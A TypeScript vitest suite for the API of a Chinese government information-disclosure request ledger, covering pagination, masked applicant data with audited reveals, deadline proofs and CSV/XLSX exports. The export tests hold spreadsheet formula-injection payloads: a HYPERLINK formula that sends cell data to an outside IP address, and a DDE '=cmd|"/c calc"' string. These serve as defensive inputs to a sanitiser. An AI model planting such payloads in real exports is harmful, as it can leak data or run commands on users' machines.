import { describe, expect, test } from 'vitest';
import { DIALECTS } from '../../../test/postgres/fresh.ts';
import { type House, house } from '../../../test/server/house.ts';
import { travel } from '../../../test/server/journey.ts';
import { PROFILE } from '../../../test/server/profile.ts';
import { MATTERS } from '../../register/index.ts';
import { harmless } from './exports.ts';

const BASE = '/api/agencies/yining';

async function furnished(dialect: (typeof DIALECTS)[number]): Promise<House> {
  const home = await house(dialect);
  const admin = home.person('first', 'yining', ['systemAdministrator']);
  await home.call('POST', `${BASE}/profile/establish`, { as: admin, body: PROFILE });
  for (const role of ['handler', 'reviewer', 'head', 'publisher', 'auditor'] as const)
    home.person(`${role}-1`, 'yining', [role]);
  return home;
}

function get(home: House, path: string, as = 'handler-1', headers: Record<string, string> = {}) {
  return home.call('GET', path.startsWith('/api') ? path : `${BASE}${path}`, { as, headers });
}

async function travelled(home: House) {
  return travel((who, method, path, body) =>
    home.call(method, `${BASE}${path}`, { as: `${who}-1`, ...(body && { body }) }),
  );
}

const FILED = {
  channel: 'inPerson',
  content: { description: '城区噪声监测年度数据' },
  supply: { form: 'electronic', way: 'email' },
  applicant: { nature: 'person', name: '赵示例', contact: '13900000000' },
};

async function register(home: House, count: number): Promise<void> {
  for (let n = 0; n < count; n += 1)
    await home.call('POST', `${BASE}/requests/register`, {
      as: 'handler-1',
      body: { ...FILED, on: '2026-03-02' },
    });
}

interface Rows {
  readonly rows: readonly { readonly id: string; readonly stageLabel: string }[];
  readonly next: string | null;
}

describe.each(DIALECTS)('%s：台账的视图', (dialect) => {
  test('管整个系统的系统管理员登记了机关，看得到、改得了它的登记，看不到它的台账', async () => {
    const home = await house(dialect, undefined, { strict: true });
    const as = home.person('keeper', '*', ['systemAdministrator']);
    const establish = `${BASE}/profile/establish`;
    expect((await home.call('POST', establish, { as, body: PROFILE })).status).toBe(200);
    expect(await get(home, '', as)).toMatchObject({ status: 200, json: { id: 'yining', shortName: '' } });
    const change = { shortName: '示环', reason: '补填简称' };
    expect((await home.call('POST', `${BASE}/profile/change`, { as, body: change })).status).toBe(200);
    expect(await get(home, '', as)).toMatchObject({ json: { shortName: '示环' } });
    expect((await get(home, '/hooks', as)).status).toBe(200);
    expect(await get(home, '/requests', as)).toMatchObject({ status: 403, json: { code: 'not-your-role' } });
  });

  test('列表：按机构筛选，下一页在 Link 头里，没有变过的不再送', async () => {
    const home = await furnished(dialect);
    await register(home, 3);
    const assign = { unit: 'business', handler: 'handler-1' };
    const assigned = `${BASE}/requests/R2026-00002/assign`;
    await home.call('POST', assigned, { as: 'handler-1', body: assign });
    const own = (await get(home, '/requests?unit=business')).json as Rows;
    expect(own.rows.map(({ id, stageLabel }) => [id, stageLabel])).toEqual([['R2026-00002', '办理中']]);

    const first = await get(home, '/requests?limit=2&order=newest');
    const link = /^<([^>]+)>; rel="next"$/.exec(first.headers.get('link') ?? '')?.[1] ?? '';
    const second = await get(home, link);
    const ids = [first, second].flatMap(({ json }) => (json as Rows).rows.map(({ id }) => id));
    expect(ids).toEqual(['R2026-00003', 'R2026-00002', 'R2026-00001']);
    expect([(second.json as Rows).next, second.headers.get('link')]).toEqual([null, null]);

    const etag = first.headers.get('etag') ?? '';
    const same = { 'if-none-match': etag };
    expect((await get(home, '/requests?limit=2&order=newest', 'handler-1', same)).status).toBe(304);
    await register(home, 1);
    expect((await get(home, '/requests?limit=2&order=newest', 'handler-1', same)).status).toBe(200);
  });

  test('一件申请：历史说中文，每个期限打开来是逐日的证明', async () => {
    const home = await furnished(dialect);
    const { request } = await travelled(home);
    const { json } = await get(home, `/requests/${request}`);
    const { history, row } = json as { history: { label: string }[]; row: object };
    expect(history.map(({ label }) => label)).toEqual([
      '收到申请',
      '辨别事项',
      '分办',
      '告知补正',
      '补正告知送达',
      '收到补正',
      '征求意见',
      '对方收到征求意见书',
      '收到意见',
      '批准延期',
      '告知延期',
      '保密审查',
      '拟定决定',
      '法制审核',
      '签发',
      '答复',
      '答复送达',
    ]);
    expect(row).toMatchObject({ stageLabel: '已送达', resultLabel: '区分处理后部分公开' });

    const answer = await get(home, `/requests/${request}/proofs`);
    const { proofs } = answer.json as {
      proofs: { clock: string; title: string; proof: { due: string; days: object[] }; printed: string[] }[];
    };
    const view = (json as { view: { clocks: { id: string; due: string }[] } }).view.clocks;
    const reply = proofs.find(({ clock }) => clock === 'reply');
    expect(reply?.proof.due).toBe(view.find(({ id }) => id === 'reply')?.due);
    expect(reply?.printed.at(-1)).toMatch(/^校验码：sha256:[0-9a-f]{64}$/);
    expect(reply?.printed.join('\n')).toContain('征求意见期间，不计入');
    expect(proofs.map(({ title }) => title)).toContain('告知补正期限');
    const same = { 'if-none-match': answer.headers.get('etag') ?? '' };
    expect((await get(home, `/requests/${request}/proofs`, 'handler-1', same)).status).toBe(304);
  });

  test('申请人：只见遮盖的；谁查看过、为什么，都看得到；发布人连遮盖的也不见', async () => {
    const home = await furnished(dialect);
    await register(home, 1);
    const before = await get(home, '/people/U0000001');
    expect(before.json).toMatchObject({
      nature: 'person',
      label: '公民',
      masked: { name: '赵**', contact: '139****0000' },
      looks: [],
    });
    const asked = { fields: ['contact'], reason: '电话告知补正' };
    const reveal = { as: 'handler-1', body: asked };
    const shown = await home.call('POST', `${BASE}/people/U0000001/reveal`, reveal);
    expect(shown.json).toEqual({ fields: { contact: '13900000000' } });
    expect(shown.headers.get('cache-control')).toBe('no-store');
    const after = await get(home, '/people/U0000001', 'auditor-1');
    expect(after.json).toMatchObject({ looks: [{ account: 'handler-1', ...asked }] });
    expect((await get(home, '/people/U0000001', 'publisher-1')).json).toMatchObject({ masked: null });
    expect((await get(home, '/people/U0000009')).status).toBe(404);
    expect((await get(home, '/people/R2026-00001')).status).toBe(400);
  });

  test('自己编的、缺了一截的游标：说不是，不从第一页重新给', async () => {
    const home = await furnished(dialect);
    await register(home, 3);
    const { next } = (await get(home, '/requests?limit=1', 'auditor-1')).json as { next: string };
    expect((await get(home, `/requests?limit=1&after=${next}`, 'auditor-1')).status).toBe(200);
    const coded = (text: string) => Buffer.from(text).toString('base64url');
    const made = ['\0', '\ud800', '["\\u0000","\\u0000"]', 'zzz'].flatMap((one) => [
      coded(one),
      coded(coded(one)),
    ]);
    for (const after of [...made, next.slice(1), next.slice(0, -1), `${next}0`])
      for (const path of ['/requests?', '/requests?order=due&', '/audit?', '/messages?', '/api/audit?']) {
        const { status, json } = await get(home, `${path}after=${after}`, 'auditor-1');
        expect([path, status, json]).toMatchObject([path, 400, { issues: [{ path: 'after' }] }]);
      }
  });

  test('办一件没有的事项：不是依法不能办，是没有', async () => {
    const home = await furnished(dialect);
    const body = { on: '2026-03-02', statement: '不再需要' };
    const told = await home.call('POST', `${BASE}/requests/R2099-00001/withdraw`, { as: 'handler-1', body });
    expect(told).toMatchObject({
      status: 404,
      json: { code: 'not-found', detail: '没有这个编号的事项，请核对。' },
    });
  });

  test('没有这个申请人：不记入台账，也不当作看过', async () => {
    const home = await furnished(dialect);
    await register(home, 1);
    const body = { fields: ['contact'], reason: '告知补正' };
    const look = await home.call('POST', `${BASE}/people/U0000009/reveal`, { as: 'handler-1', body });
    expect(look).toMatchObject({ status: 404, json: { code: 'not-found' } });
    const { rows } = await home.means.trail.lines({ act: 'person.reveal', limit: 9 });
    expect(rows.filter(({ outcome }) => outcome === 'done')).toEqual([]);
  });

  test('用同一个键再看一遍也有记录：每次显示以前都留有审计，留不下就不显示', async () => {
    const home = await furnished(dialect);
    await register(home, 1);
    const reveal = { as: 'handler-1', key: 'look-0001', body: { fields: ['contact'], reason: '告知补正' } };
    const look = () => home.call('POST', `${BASE}/people/U0000001/reveal`, reveal);
    const shown = { fields: { contact: '13900000000' } };
    expect((await look()).json).toEqual(shown);
    home.at('2026-06-02T02:00:00Z');
    expect((await look()).json).toEqual(shown);
    const { rows } = await home.means.trail.lines({ act: 'person.reveal', limit: 9 });
    expect(rows.map(({ at, account, about, outcome }) => [at.slice(0, 10), account, about, outcome])).toEqual(
      [
        ['2026-06-02', 'handler-1', 'U0000001', 'done'],
        ['2026-03-02', 'handler-1', 'U0000001', 'done'],
      ],
    );
    const { enter } = home.means.trail;
    Object.assign(home.means.trail, { enter: () => Promise.reject(new Error('full')) });
    expect(JSON.stringify((await look()).json)).not.toContain('13900000000');
    Object.assign(home.means.trail, { enter });
  });

  test('今天：每类有几件逾期、几件快到期', async () => {
    const home = await furnished(dialect);
    await register(home, 2);
    await home.call('POST', `${BASE}/improvements/open`, {
      as: 'handler-1',
      body: { on: '2026-03-02', source: 'selfCheck', description: '一件申请超期答复。' },
    });
    expect((await get(home, '/today')).json).toMatchObject({ counts: [], overdue: [], soon: [] });
    home.at('2026-03-27T02:00:00Z');
    expect((await get(home, '/today')).json).toMatchObject({
      counts: [{ kind: 'request', label: '公开申请', overdue: 0, soon: 2, more: false }],
      soon: [{ id: 'R2026-00001' }, { id: 'R2026-00002' }],
    });
    home.at('2026-04-01T02:00:00Z');
    expect((await get(home, '/today')).json).toMatchObject({ counts: [{ overdue: 2, soon: 0 }] });
  });

  test('链：每日的链头，从头核对', async () => {
    const home = await furnished(dialect);
    await register(home, 3);
    expect((await get(home, '/heads')).json).toMatchObject({ heads: [{ day: '2026-03-02', seq: 4 }] });
    expect((await get(home, '/verification')).status).toBe(403);
    const verified = await get(home, '/verification', 'auditor-1');
    expect(verified.json).toEqual({ entries: 4, breaks: [] });
  });

  test('导出：中文的环节，遮盖的姓名，公式不会运行', async () => {
    const home = await furnished(dialect);
    const description = '=HYPERLINK("http://198.51.100.1/?"&A1,"看")';
    const body = { ...FILED, content: { description }, on: '2026-03-02' };
    await home.call('POST', `${BASE}/requests/register`, { as: 'handler-1', body });
    const { json: csv, headers } = await get(home, '/exports/requests?as=csv');
    expect(String(csv).split('\r\n')[1]).toContain(`"'=HYPERLINK(""http://`);
    expect(String(csv)).toContain('"已登记，待分办"');
    expect(String(csv)).toContain('"赵**"');
    expect(String(csv)).not.toContain('赵示例');
    expect(headers.get('content-disposition')).toContain('attachment');
    expect(String((await get(home, '/exports/requests', 'publisher-1')).json)).not.toContain('赵**');
    const xlsx = await home.app.request(`${BASE}/exports/requests?as=xlsx`, {
      headers: { authorization: 'Bearer handler-1' },
    });
    expect(Buffer.from(await xlsx.arrayBuffer()).toString('latin1', 0, 2)).toBe('PK');
    const { rows } = await home.means.trail.lines({ act: 'export.cases', limit: 9 });
    expect(rows.map(({ account, about }) => `${account} ${about}`).toSorted()).toEqual([
      'handler-1 yining-requests.csv 1',
      'handler-1 yining-requests.xlsx 1',
      'publisher-1 yining-requests.csv 1',
    ]);
  });
});

test.each([
  ['=1+1'],
  ['+1'],
  ['-1'],
  ['@SUM(A1)'],
  ['\t=1'],
  ['\r=1'],
  ['\n=1'],
  [' =1'],
  ['\u00a0=1'],
  ['\ufeff=1'],
  ['＝1+1'],
  ['－1'],
  ['＠a'],
  ['|calc'],
  ['%0A=1'],
  ['=cmd|"/c calc"!A0'],
])('电子表格会当成公式的 %j，前面加撇号', (text) => {
  expect(harmless(text)).toBe(`'${text}`);
});

test.each([['城区噪声'], ['2026-03-02'], ['a=b'], [''], ['（2026）1号']])('平常的字 %j 不动', (text) => {
  expect(harmless(text)).toBe(text);
});

test('立项的命令由台账自己说：编号的事项都有，别的都要写编号', () => {
  for (const { identity, opens = [], commands, kind } of Object.values(MATTERS)) {
    expect([kind, opens.length > 0]).toEqual([kind, identity === 'numbered']);
    expect(opens.filter((type) => !Object.hasOwn(commands, type))).toEqual([]);
  }
});
